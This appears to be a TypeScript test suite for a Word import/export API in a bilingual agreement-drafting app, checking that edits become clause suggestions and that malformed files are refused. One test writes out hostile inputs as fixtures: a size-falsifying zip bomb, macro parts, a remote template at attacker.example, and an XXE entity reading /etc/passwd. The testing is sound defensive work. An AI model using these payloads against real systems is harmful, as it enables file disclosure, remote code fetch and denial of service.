import { expect } from 'chai';
import { strFromU8, strToU8, unzipSync, zipSync, type Zippable } from 'fflate';
import { ApiClient, ok } from '../support/api-client.ts';
import { TEST_DATABASE_KIND } from '../support/database.ts';
import { storedAgreement } from '../support/snapshot.ts';
import { startTestServer, type TestServer } from '../support/server.ts';
import { WebClient } from '../web/web-client.ts';

const DOCX_TYPE = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const DOCUMENT = 'word/document.xml';

/** The zip with one entry's uncompressed size rewritten, in its local header and its central directory entry. */
function lyingAboutSize(zip: Buffer, name: string, declared: number): Buffer {
  const bytes = Buffer.from(zip);
  const wanted = Buffer.from(name, 'utf8');
  let patched = 0;
  for (let at = 0; at + 46 < bytes.length; at += 1) {
    const signature = bytes.readUInt32LE(at);
    const [sizeAt, nameLengthAt, nameAt] = signature === 0x04034b50 ? [22, 26, 30] : signature === 0x02014b50 ? [24, 28, 46] : [0, 0, 0];
    if (sizeAt === 0) continue;
    const nameLength = bytes.readUInt16LE(at + nameLengthAt);
    if (nameLength !== wanted.length || !bytes.subarray(at + nameAt, at + nameAt + nameLength).equals(wanted)) continue;
    bytes.writeUInt32LE(declared, at + sizeAt);
    patched += 1;
  }
  expect(patched, 'both headers of the entry').to.equal(2);
  return bytes;
}

/**
 * The Word import's rules without Word: files exported by Bilateral, changed the way Word stores
 * changes (plain edits, without Track Changes), or made hostile. Every refusal leaves everything
 * stored as it was. (LibreOffice's own tracked changes: word-libreoffice.test.ts.)
 */
describe(`Word import API (${TEST_DATABASE_KIND})`, function () {
  this.timeout(120_000);
  let server: TestServer;
  let legal: ApiClient;
  let legalGyeonggi: ApiClient;
  let id: number;

  const exported = async (agreement = id, original = 'gyeonggi') => {
    const response = await legalGyeonggi.get(`/api/agreements/${agreement}/docx?original=${original}&layout=parallel`);
    expect(response.status).to.equal(200);
    return unzipSync(new Uint8Array(response.bytes)) as Zippable;
  };
  const zip = (parts: Zippable) => Buffer.from(zipSync(parts));
  const withDocument = (parts: Zippable, change: (xml: string) => string) => {
    const xml = strFromU8(parts[DOCUMENT] as Uint8Array);
    const changed = change(xml);
    expect(changed, 'the test changed the document').to.not.equal(xml);
    return zip({ ...parts, [DOCUMENT]: strToU8(changed) });
  };
  const upload = (body: Buffer, expectedVersion = 1, type = DOCX_TYPE) =>
    legalGyeonggi.upload(`/api/agreements/${id}/docx?expectedVersion=${expectedVersion}`, body, type);
  const expectRefused = async (body: Buffer, status: number, detail: RegExp, options: { type?: string; expectedVersion?: number } = {}) => {
    const before = await storedAgreement(server.db, id);
    const refused = await upload(body, options.expectedVersion, options.type);
    expect(refused.status, JSON.stringify(refused.body)).to.equal(status);
    expect(refused.contentType).to.match(/problem\+json/);
    expect(refused.body.detail).to.match(detail);
    expect(await storedAgreement(server.db, id)).to.equal(before);
    return refused.body;
  };

  before(async () => {
    server = await startTestServer();
    [legal, legalGyeonggi] = await Promise.all(
      ['legal@sverdlovsk.example', 'legal@gyeonggi.example'].map((email) => ApiClient.signIn(server.baseUrl, email)),
    );
  });
  after(async () => server?.close());
  beforeEach(async () => {
    id = ok(await legal.post('/api/agreements', { kind: 'cooperation-agreement', languages: ['ru', 'ko', 'en'] }), 201).id;
  });

  it('when the draft is exported, then it is a Word document with styles, numbering, languages, the serif, the DRAFT header and a bookmark per paragraph', async () => {
    const parts = await exported();
    const document = strFromU8(parts[DOCUMENT] as Uint8Array);
    for (const lang of ['ru-RU', 'ko-KR', 'en-GB']) expect(document).to.include(`<w:lang w:val="${lang}"`);
    expect(document).to.include('<w:pStyle w:val="Heading1"/>');
    expect(document).to.include('<w:tblHeader/>');
    expect(document).to.match(/<w:bookmarkStart w:name="bl_2_ru_0" w:id="\d+"\/>/);
    expect(document).to.not.match(/Статья \d/, 'article numbers are Word numbering, not typed');
    expect(strFromU8(parts['word/numbering.xml'] as Uint8Array)).to.include('<w:lvlText w:val="Статья %1"/>');
    expect(strFromU8(parts['word/styles.xml'] as Uint8Array)).to.include('w:ascii="Noto Serif KR"');
    expect(strFromU8(parts['word/header1.xml'] as Uint8Array)).to.match(/DRAFT - version 1 - \d{4}-\d{2}-\d{2}/);
    expect(strFromU8(parts['docProps/custom.xml'] as Uint8Array)).to.include(`<vt:lpwstr>${id}</vt:lpwstr>`);
    const sequential = unzipSync(
      new Uint8Array((await legal.get(`/api/agreements/${id}/docx?original=sverdlovsk&layout=sequential`)).bytes),
    );
    // Each language's text after the other: no table but the signature blocks', no header row.
    expect(strFromU8(sequential[DOCUMENT]!)).to.not.include('<w:tblHeader/>');
    expect((await legal.get(`/api/agreements/${id}/docx?original=nobody`)).status).to.equal(400);
  });

  it('when the agreement page is read in Korean or Russian, then each original offers its Word file in that language, and the link downloads it', async () => {
    for (const [email, label] of [
      ['legal@gyeonggi.example', 'Word 파일(DOCX)로 검토'],
      ['legal@sverdlovsk.example', 'Файл Word (DOCX) для правки'],
    ] as const) {
      const web = await WebClient.signedIn(server.baseUrl, email);
      const page = await web.get(`/agreements/${id}`);
      expect(page.status).to.equal(200);
      expect(page.html).to.include(label);
      // Handlebars writes = in an attribute as &#x3D;.
      const link = new RegExp(`href="/agreements/${id}/docx\\?original(?:=|&#x3D;)gyeonggi"`).exec(page.html);
      expect(link, "the Gyeonggi original's Word link").to.not.equal(null);
      const file = await web.get(`/agreements/${id}/docx?original=gyeonggi`);
      expect(file.status).to.equal(200);
      expect(file.headers.get('content-type')).to.equal(DOCX_TYPE);
      expect(file.headers.get('content-disposition')).to.match(new RegExp(`agreement-${id}-gyeonggi-draft-v1\\.docx`));
    }
  });

  it('when a word is changed without Track Changes and a field is typed over, then the change is a suggestion on its clause and the field is reported, still a field', async () => {
    const body = withDocument(await exported(), (xml) =>
      xml
        .replace('представляющих взаимный интерес', 'имеющих взаимный интерес')
        // The preamble opens with the Gyeonggi field in this original: half of its value retyped.
        .replace('Провинция Кёнгидо', 'Провинция Кёнги'),
    );
    const imported = ok(await upload(body), 201);
    expect(imported.suggestions.map((s: { clause: string; lang: string }) => `${s.clause}/${s.lang}`)).to.deep.equal([
      'areas-of-cooperation/ru',
    ]);
    expect(imported.suggestions[0].changes).to.deep.equal([
      { op: 'delete', text: 'представляющих' },
      { op: 'insert', text: 'имеющих' },
    ]);
    expect(imported.fields).to.have.length(1);
    expect(imported.fields[0]).to.deep.include({ clause: 'preamble', lang: 'ru', value: 'Провинция Кёнгидо', found: 'Провинция Кёнги' });
    const listed = ok(await legal.get(`/api/agreements/${id}/suggestions`));
    expect(listed).to.have.length(1);
    expect(listed[0]).to.include({ by: 'legal@gyeonggi.example', clause: 'areas-of-cooperation', lang: 'ru', state: 'open' });
  });

  it("when either party's lawyer uploads either party's original, then each change lands on its clause and language, fields intact", async () => {
    // The originals differ: the party's language first, the party named first (the preamble's fields swap places).
    for (const [uploader, original] of [
      ['sverdlovsk', 'gyeonggi'],
      ['gyeonggi', 'sverdlovsk'],
      ['sverdlovsk', 'sverdlovsk'],
    ] as const) {
      const agreement = ok(await legal.post('/api/agreements', { kind: 'cooperation-agreement', languages: ['ru', 'ko', 'en'] }), 201);
      const client = uploader === 'sverdlovsk' ? legal : legalGyeonggi;
      const file = await client.get(`/api/agreements/${agreement.id}/docx?original=${original}`);
      expect(file.status).to.equal(200);
      const parts = unzipSync(new Uint8Array(file.bytes)) as Zippable;
      const body = withDocument(parts, (xml) =>
        xml
          // The Korean preamble's opening, between the party fields (the other party first in the other original), and article 2 in English.
          .replace('“양측”이라 한다', '“양측”이라 칭한다')
          .replace('other areas of mutual interest', 'other areas of common interest'),
      );
      const imported = ok(await client.upload(`/api/agreements/${agreement.id}/docx?expectedVersion=1`, body, DOCX_TYPE), 201);
      expect(imported.original, `${uploader} uploading ${original}'s original`).to.equal(original);
      const placed = imported.suggestions.map((s: { clause: string; lang: string; text: string; by: string }) => [s.clause, s.lang, s.by]);
      expect(placed).to.have.deep.members([
        ['preamble', 'ko', `legal@${uploader}.example`],
        ['areas-of-cooperation', 'en', `legal@${uploader}.example`],
      ]);
      expect(imported.fields).to.deep.equal([]);
      const preamble = imported.suggestions.find((s: { clause: string }) => s.clause === 'preamble');
      // Only the words changed: the party fields are still fields, whichever original the file was.
      expect(preamble.changes).to.deep.equal([
        { op: 'delete', text: '한다' },
        { op: 'insert', text: '칭한다' },
      ]);
      expect(preamble.text).to.include('“양측”이라 칭한다');
      expect(preamble.text).to.match(/^<p><field ref="first\.country"\/> <field ref="first\.name" josa="와\/과"\/>/);
    }
  });

  it("when a file's properties name the other party's original than its layout is, then 422 says so and nothing is imported", async () => {
    const parts = await exported(id, 'gyeonggi');
    const custom = strFromU8(parts['docProps/custom.xml'] as Uint8Array);
    expect(custom).to.include('<vt:lpwstr>gyeonggi</vt:lpwstr>');
    const relabelled = withDocument(
      { ...parts, 'docProps/custom.xml': strToU8(custom.replace('<vt:lpwstr>gyeonggi</vt:lpwstr>', '<vt:lpwstr>sverdlovsk</vt:lpwstr>')) },
      (xml) => xml.replace('other areas of mutual interest', 'other areas of common interest'),
    );
    const refused = await expectRefused(relabelled, 422, /laid out as gyeonggi's original/);
    expect(refused.problems).to.equal(undefined);
  });

  it('when a clause is not yet written in a language, then its empty cell may stay empty, and a translation typed into it is a suggestion', async () => {
    const added = ok(
      await legal.post(`/api/agreements/${id}/clauses`, { lang: 'ru', text: '<p>Стороны обмениваются опытом.</p>', expectedVersion: 1 }),
      201,
    );
    const parts = await exported();
    const body = withDocument(parts, (xml) =>
      xml
        .replace('представляющих взаимный интерес', 'имеющих взаимный интерес')
        // The Korean cell of the new article holds only its (numbered, empty) heading: a paragraph typed after it.
        .replace(
          /(<w:bookmarkStart w:name="bl_(\d+)_ko_h" w:id="\d+"\/><w:bookmarkEnd w:id="\d+"\/><\/w:p>)(?![\s\S]*bl_\2_ko_0)/,
          '$1<w:p><w:r><w:t>양측은 경험을 교환한다.</w:t></w:r></w:p>',
        ),
    );
    const imported = ok(await legalGyeonggi.upload(`/api/agreements/${id}/docx?expectedVersion=${added.version}`, body, DOCX_TYPE), 201);
    const placed = imported.suggestions.map((s: { clause: string; lang: string; text: string }) => [s.clause, s.lang, s.text]);
    expect(placed).to.deep.include(['custom-1', 'ko', '<p>양측은 경험을 교환한다.</p>']);
    expect(placed.map((entry: string[]) => entry.slice(0, 2).join('/'))).to.have.members(['areas-of-cooperation/ru', 'custom-1/ko']);
  });

  it('when anything in the file cannot be placed, then 422 names each place and nothing is imported', async () => {
    const parts = await exported();
    const outside = await expectRefused(
      withDocument(parts, (xml) =>
        xml
          .replace('представляющих взаимный интерес', 'имеющих взаимный интерес')
          .replace('<w:body>', '<w:body><w:p><w:r><w:t>Примечание переводчика</w:t></w:r></w:p>'),
      ),
      422,
      /Nothing was imported/,
    );
    expect(outside.problems).to.deep.include({ place: 'paragraph 1 ("Примечание переводчика")', problem: 'text outside any article' });
    const article = await expectRefused(
      withDocument(parts, (xml) =>
        xml.replace('<w:body>', '<w:body><w:p><w:pPr><w:pStyle w:val="Heading1"/></w:pPr><w:r><w:t>Статья 12</w:t></w:r></w:p>'),
      ),
      422,
      /a new article/,
    );
    expect(article.problems).to.have.length(1);
    // The table's third row is Article 1 (purpose): the header row, the title, the preamble come first.
    await expectRefused(
      withDocument(parts, (xml) => {
        const rows = xml.split('<w:tr>');
        return [...rows.slice(0, 4), ...rows.slice(5)].join('<w:tr>');
      }),
      422,
      /clause "purpose" \(ko\): it is missing from the file/,
    );
    const signature = await expectRefused(
      withDocument(parts, (xml) => xml.replace('Андрей Соболев', 'Андрей Соболев-Иванов')),
      422,
      /signature blocks/,
    );
    expect(signature.problems).to.have.length(1);
    const other = ok(await legal.post('/api/agreements', { kind: 'memorandum' }), 201).id;
    await expectRefused(zip(await exported(other)), 422, new RegExp(`exported from agreement ${other}, not ${id}`));
    await expectRefused(
      zip({
        ...parts,
        'docProps/custom.xml': strToU8(
          strFromU8(parts['docProps/custom.xml'] as Uint8Array).replace(/(BilateralVersion"><vt:lpwstr>)1/, '$199'),
        ),
      }),
      422,
      /version 99, which agreement \d+ never had/,
    );
    await expectRefused(zip(parts), 422, /changes nothing/);
    await expectRefused(
      withDocument(parts, (xml) => xml.replace('представляющих', 'имеющих')),
      409,
      /version/,
      { expectedVersion: 7 },
    );
  });

  it('when the file is hostile, then a clear 4xx problem and nothing changes', async () => {
    const parts = await exported();
    await expectRefused(Buffer.from('PK\u0003\u0004 not really a zip'), 422, /not a zip archive/);
    await expectRefused(Buffer.from('<html>hello</html>'), 422, /not a zip archive/);
    await expectRefused(zip({ ...parts, [DOCUMENT]: new Uint8Array(20 * 1024 * 1024) }), 422, /inflates to more than/);
    // A zip bomb that lies: 20 MiB of zeros declared as 1 KiB, in the local header and the central directory.
    await expectRefused(
      lyingAboutSize(zip({ ...parts, [DOCUMENT]: new Uint8Array(20 * 1024 * 1024) }), DOCUMENT, 1024),
      422,
      /does not inflate to the size it declares/,
    );
    // Each part under its own bound, together over the whole file's.
    const heavy: Zippable = { ...parts };
    for (let index = 0; index < 4; index += 1) heavy[`word/_rels/heavy-${index}.xml.rels`] = new Uint8Array(15 * 1024 * 1024);
    await expectRefused(zip(heavy), 422, /inflate to more than \d+ bytes in all/);
    const many: Zippable = { ...parts };
    for (let index = 0; index < 1001; index += 1) many[`word/media/empty-${index}.xml`] = new Uint8Array(0);
    await expectRefused(zip(many), 422, /entries/);
    await expectRefused(zip({ ...parts, 'word/vbaProject.bin': strToU8('macro') }), 422, /Macro-enabled/);
    const types = strFromU8(parts['[Content_Types].xml'] as Uint8Array).replace(
      'wordprocessingml.document.main+xml',
      'application/vnd.ms-word.document.macroEnabled.main+xml',
    );
    await expectRefused(zip({ ...parts, '[Content_Types].xml': strToU8(types) }), 422, /Macro-enabled/);
    const rels = strFromU8(parts['word/_rels/document.xml.rels'] as Uint8Array).replace(
      '</Relationships>',
      '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>',
    );
    await expectRefused(zip({ ...parts, 'word/_rels/document.xml.rels': strToU8(rels) }), 422, /outside it \(attachedTemplate\)/);
    await expectRefused(
      withDocument(parts, (xml) =>
        xml.replace(
          '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>',
          '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        ),
      ),
      422,
      /DOCTYPE/,
    );
    await expectRefused(
      withDocument(parts, (xml) => xml.replace('</w:body>', '<w:p></w:body>')),
      422,
      /not well-formed/,
    );
    // Parts emptied or replaced by another root: refused by name or as not Bilateral's, never a 500.
    for (const part of ['[Content_Types].xml', DOCUMENT, 'docProps/custom.xml', 'word/_rels/document.xml.rels']) {
      await expectRefused(zip({ ...parts, [part]: new Uint8Array(0) }), 422, /./);
      await expectRefused(zip({ ...parts, [part]: strToU8('<x/>') }), 422, /./);
    }
    await expectRefused(Buffer.alloc(50 * 1024 * 1024), 413, /./);
    await expectRefused(zip(parts), 415, /Content-Type/, { type: 'application/pdf' });
  });
});
